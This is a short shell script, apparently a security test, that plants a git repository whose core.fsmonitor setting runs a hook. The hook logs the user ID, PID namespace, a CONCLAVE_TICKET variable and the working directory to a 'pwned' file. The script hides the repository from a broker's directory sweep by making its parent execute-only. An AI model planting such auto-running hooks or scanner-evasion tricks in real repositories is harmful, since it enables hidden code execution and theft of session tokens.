# Hide a planted repository from the sweep: its parent directory is execute-only (mode 0111), so the broker
# (same uid, no CAP_DAC_READ_SEARCH) cannot list it -- scandir fails, the walk skips it silently -- while the
# person's `cd sub/hide/sub` and git there work (traversal needs only x).
set -u
cd "$(git rev-parse --show-toplevel)"; T=$(pwd); OUT=$1
mkdir -p sub/hide/sub; git init -q sub/hide/sub
P="$T/sub/hide/sub/.git/fsmon"
printf '#!/bin/sh\necho "ran as $(id -u) pidns=$(readlink /proc/self/ns/pid) ticket=${CONCLAVE_TICKET:-none} cwd=$(pwd)" >> %s/pwned\nexit 1\n' "$OUT" > "$P"; chmod +x "$P"
git -C sub/hide/sub config core.fsmonitor "$P"
echo x > sub/hide/sub/f
chmod 0111 sub/hide
sleep 4
ls -la sub/hide/sub/.git | head -3
echo planted
